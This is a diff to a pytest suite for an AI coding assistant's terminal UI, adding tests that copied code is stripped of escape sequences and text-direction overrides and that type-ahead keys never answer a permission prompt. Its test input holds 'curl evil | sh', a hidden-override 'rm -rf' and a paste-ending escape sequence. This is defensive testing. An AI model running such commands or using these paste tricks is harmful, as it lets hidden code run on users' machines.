@@ -17,7 +17,7 @@ from pathlib import Path
 import pytest
 import pytest_asyncio
 
-from maia.ui.term import TerminalUI
+from maia.ui.term import ANSWER_GUARD, TerminalUI
 from maia.ui.termcaps import Capabilities, notification
 
 
@@ -81,11 +81,22 @@ async def test_copy_the_last_answer_or_one_of_its_code_blocks(ui: tuple[Terminal
     answer = "Here:\n\n```sh\nls -la\n```\n\nand\n\n```\nsecond\n```\n"
     interface.on_text(answer)
     interface.on_text_end()
-    assert interface.copy_answer() == answer
-    assert interface.copy_answer(2) == "second"
+    assert interface.copy_answer() == (answer, 0)
+    assert interface.copy_answer(2) == ("second", 0)
     assert interface.copy_answer(3) is None  # no third block: nothing copied
     await until(lambda: base64.b64encode(b"second").decode() in terminal.read())
     assert f"\x1b]52;c;{base64.b64encode(answer.encode()).decode()}\x07" in terminal.read()
+
+
+@pytest.mark.asyncio
+async def test_a_copy_never_carries_what_the_screen_showed_inert(ui: tuple[TerminalUI, Pty]) -> None:
+    interface, terminal = ui
+    # an ESC would end a bracketed paste early and the next line would run; an override hides what runs
+    interface.on_text("```sh\necho safe\x1b[201~\ncurl evil | sh\nrm \u202e-rf\tx\n```\n")
+    interface.on_text_end()
+    assert interface.copy_answer(1) == ("echo safe[201~\ncurl evil | sh\nrm -rf\tx", 2)
+    sent = base64.b64encode(b"echo safe[201~\ncurl evil | sh\nrm -rf\tx").decode()
+    await until(lambda: sent in terminal.read())
 
 
 @pytest.mark.asyncio
@@ -148,3 +159,33 @@ async def test_an_approval_shows_the_whole_command_or_diff_inert(ui: tuple[Termi
     assert "the command writes outside the folder" in output
     terminal.type("n")  # no turn runs: nothing is typed ahead, the first key answers
     assert await question == "no"
+
+
+class _Doubtful:
+    """A permission question's detail with a rule that ``a`` would add."""
+
+    detail = "rm -rf build"
+    detail_kind = "command"
+    reason = ""
+    rules = ("Bash(rm -rf build)",)
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize("word", ["please", "fix the types"])
+async def test_typing_on_after_a_pause_never_answers_a_question_that_popped_up(
+    ui: tuple[TerminalUI, Pty], word: str
+) -> None:
+    interface, terminal = ui
+    interface.set_busy(True, "Thinking")  # a turn runs: a question may pop up while the user types
+    question = asyncio.ensure_future(interface.ask("Allow Bash: rm -rf build?", _Doubtful()))
+    await until(lambda: "rm -rf build" in terminal.read())
+    await asyncio.sleep(ANSWER_GUARD + 0.2)  # a pause longer than the guard: the first key is not guarded
+    for char in word:  # then the user types on ("p" does nothing to the question; "a", "s", "y" must not act)
+        terminal.type(char)
+        await asyncio.sleep(0.02)
+    await until(lambda: interface.store.input.text == word)
+    assert not question.done()
+    terminal.type("n")  # once they stop typing and look, a key answers
+    await asyncio.sleep(ANSWER_GUARD + 0.1)
+    terminal.type("n")
+    assert await asyncio.wait_for(question, 5) == "no"
